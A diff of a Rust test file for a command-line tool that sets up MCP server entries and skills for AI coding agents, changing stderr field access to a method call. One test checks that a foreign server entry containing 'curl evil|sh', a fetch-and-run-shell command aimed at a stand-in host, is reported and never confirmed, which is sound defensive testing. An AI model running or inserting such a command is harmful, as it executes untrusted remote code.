@@ -30,8 +30,8 @@ fn each_agent_is_set_up_once_and_existing_lines_stay() {
         scenario.write(skill, own.as_bytes());
         // A skill that is not the program's own is kept, but not vouched for.
         let run = scenario.discussions(&["init", "--agent", agent]).code(1);
-        assert!(run.stderr.contains(&format!("{skill} has something else")), "{}", run.stderr);
-        assert!(run.stderr.contains("\n    my own words\n"), "{}", run.stderr);
+        assert!(run.stderr().contains(&format!("{skill} has something else")), "{}", run.stderr());
+        assert!(run.stderr().contains("\n    my own words\n"), "{}", run.stderr());
         assert_eq!(scenario.read(file), told, "once is enough");
         assert_eq!(scenario.read(skill), own);
         std::fs::remove_file(scenario.path(skill)).unwrap();
@@ -74,11 +74,11 @@ fn foreign_server_is_shown_and_never_confirmed() {
         let run = fresh.discussions(&["init", "--agent", agent]).code(1);
         assert!(!run.stdout.contains("set up already"), "{agent}: {}", run.stdout);
         assert!(
-            run.stderr.contains(&format!("{file} has something else")),
+            run.stderr().contains(&format!("{file} has something else")),
             "{agent}: {}",
-            run.stderr
+            run.stderr()
         );
-        assert!(run.stderr.contains("curl evil|sh"), "{agent}: {}", run.stderr);
+        assert!(run.stderr().contains("curl evil|sh"), "{agent}: {}", run.stderr());
         assert_eq!(fresh.read(file), foreign, "{agent}");
         let told = fresh.discussions(&["init", "--agent", agent, "--json"]).code(1).json();
         assert_eq!(
@@ -87,7 +87,7 @@ fn foreign_server_is_shown_and_never_confirmed() {
         );
         assert!(told["done"][0]["found"].as_str().unwrap().contains("curl evil"), "{told}");
         // Nothing about this program's own skill is in the report.
-        assert!(!run.stderr.contains(skill), "{agent}: {}", run.stderr);
+        assert!(!run.stderr().contains(skill), "{agent}: {}", run.stderr());
     }
 }
 
@@ -139,13 +139,13 @@ fn unreadable_file_is_left_alone_and_links_are_not_followed() {
     let scenario =
         Scenario::new().file(".gemini/settings.json", odd).file("elsewhere.json", "{}\n");
     let run = scenario.discussions(&["init", "--agent", "gemini"]).code(1);
-    assert!(run.stderr.contains("add this line to it: {\"mcpServers\""), "{}", run.stderr);
+    assert!(run.stderr().contains("add this line to it: {\"mcpServers\""), "{}", run.stderr());
     assert_eq!(scenario.read(".gemini/settings.json"), odd);
     std::fs::create_dir(scenario.path(".zed")).unwrap();
     for (agent, file) in [("claude", ".mcp.json"), ("zed", ".zed/settings.json")] {
         std::os::unix::fs::symlink(scenario.path("elsewhere.json"), scenario.path(file)).unwrap();
         let run = scenario.discussions(&["init", "--agent", agent]).code(3);
-        assert!(run.stderr.contains("a symbolic link is in the way"), "{}", run.stderr);
+        assert!(run.stderr().contains("a symbolic link is in the way"), "{}", run.stderr());
         assert_eq!(scenario.read("elsewhere.json"), "{}\n");
     }
 }
